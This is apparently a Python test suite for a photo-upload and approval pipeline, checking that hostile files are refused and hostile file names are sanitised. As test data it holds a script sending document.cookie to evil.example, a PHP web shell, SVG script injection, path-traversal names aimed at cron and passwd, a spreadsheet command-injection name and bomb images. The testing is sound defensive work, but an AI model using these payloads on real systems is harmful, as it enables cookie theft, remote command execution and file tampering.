"""Files made to do harm, under names made to do harm: each is refused with a sentence or becomes a plain picture."""

from pathlib import Path, PurePosixPath

from tests.imaging.pictures import EPS, PDF, SVG, gif, jpeg, png, with_zip_behind
from tests.journeys.board import Board
from tests.journeys.conftest import Galley
from tests.journeys.photos import photo
from tests.journeys.stage import Seen
from tests.waiting import eventually

HTML = b"<!doctype html><script>fetch('//evil.example/'+document.cookie)</script>"
ZIP = b"PK\x03\x04" + bytes(26) + b"bomb"
PAYLOAD = b"<?php system($_GET['c']); ?>"
REFUSED = (
    ("script.jpg", HTML),
    ("drawing.jpg", SVG.replace(b"<rect", b"<script>alert(1)</script><rect")),
    ("printer.jpg", EPS),
    ("paper.jpg", PDF),
    ("archive.png", ZIP),
    ("endless.gif", gif(2_000)),
    ("bomb.png", png((30_000, 30_000), rows=b"")),
    ("short.webp", b"RIFF\xff\xff\xff\xffWEBPVP8 "),
)
NAMES = (
    "../../../../etc/cron.d/evil.jpg",
    "..\\..\\windows\\system32\\evil.jpg",
    "/etc/passwd.jpg",
    "CON.jpg",
    "nul\x00byte.jpg",
    "dots....",
    "x" * 300 + ".jpg",
    "\u202egpj.exe\u2066.jpg",
    "fullwidth\uff0f\uff0e\uff0e\uff0fslash.jpg",
    "new\nline\x1b[31m.jpg",
    "=cmd|' /C calc'!A0.jpg",
    "  .jpg",
)


async def test_hostile_files_are_refused_one_by_one_and_harm_nobody(galley: Galley) -> None:
    ts = await galley.stage.drop("uploader", "intake", *REFUSED, ("good.jpg", photo(1)))

    receipt = await eventually(lambda: settled(galley, ts))
    refusals = [line for line in receipt.words.splitlines() if line.startswith(":x:")]
    assert len(set(refusals)) >= len(REFUSED)
    card = await eventually(galley.stage.card)
    assert card.text.startswith("Approve good?")
    assert await galley.stage.direct("admin") == []


async def test_hostile_names_and_payloads_end_at_the_library(galley: Galley) -> None:
    board = Board(galley)
    files = [(name, photo(number, size=(220, 220)) + PAYLOAD) for number, name in enumerate(NAMES, start=20)]
    files.append(("polyglot.jpg", with_zip_behind(jpeg((300, 300), comment=PAYLOAD))))
    before = everything_beside(galley.config.data)
    await galley.stage.drop("uploader", "intake", *files)

    await board.approve("designer1", "Design")
    await board.approve("brand", "Brand")
    library = galley.config.data / "library" / "assets"
    await eventually(lambda: len(list(library.rglob("asset.json"))) == len(files), within=60)

    assert everything_beside(galley.config.data) == before
    for path in galley.config.data.rglob("*"):
        name = PurePosixPath(path.relative_to(galley.config.data)).name
        assert name.isprintable()
        assert len(name.encode()) < 256
        assert not set('\\:*?"<>|') & set(name), name
        assert name.rstrip(". ") == name
        assert PurePosixPath(name).stem.casefold() not in ("con", "nul")
        assert path.resolve().is_relative_to(galley.config.data.resolve())
    assert no_payload_in(galley.config.data / "renditions", galley.config.data / "proofs")


def everything_beside(folder: Path) -> set[Path]:
    return {path for path in folder.parent.rglob("*") if not path.is_relative_to(folder)}


def no_payload_in(*folders: Path) -> bool:
    made = [path for folder in folders for path in folder.rglob("*") if path.is_file()]
    return bool(made) and not any(PAYLOAD in path.read_bytes() or b"PK\x03\x04" in path.read_bytes() for path in made)


async def settled(galley: Galley, ts: str) -> Seen | None:
    receipt = await galley.stage.receipt(ts)
    return receipt if receipt and "hecking" not in receipt.words and "being checked" not in receipt.words else None
